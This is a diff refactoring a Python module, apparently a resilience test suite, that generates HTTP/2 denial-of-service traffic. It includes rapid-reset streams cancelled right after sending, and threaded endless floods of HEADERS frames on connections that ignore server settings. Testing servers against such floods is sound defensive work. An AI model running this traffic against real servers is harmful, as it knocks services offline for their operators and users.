@@ -40,11 +40,8 @@ def rapid_reset(target):
 
 def rapid_reset_of_calls(target):
     """complete calls, each cancelled at once"""
-    request = message(b"")
-    _reset_by(
-        target,
-        lambda stream: frame(DATA, END_STREAM, stream, request) + frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL)),
-    )
+    request, cancel = message(b""), struct.pack(">I", CANCEL)
+    _reset_by(target, lambda stream: frame(DATA, END_STREAM, stream, request) + frame(RST_STREAM, 0, stream, cancel))
 
 
 def made_reset(target):
@@ -55,12 +52,11 @@ def made_reset(target):
 def open_streams(target):
     """as many open calls as possible on 8 connections that never acknowledge the server's settings"""
 
+    call = request_headers(target.client_stream)
+
     def body(peer):
         while True:
-            burst = [
-                frame(HEADERS, END_HEADERS, next(peer.streams), request_headers(target.client_stream)) for _ in range(50)
-            ]
-            peer.send(b"".join(burst))
+            peer.send(b"".join(frame(HEADERS, END_HEADERS, next(peer.streams), call) for _ in range(50)))
 
     in_threads(8, lambda: persist(target, body))
 
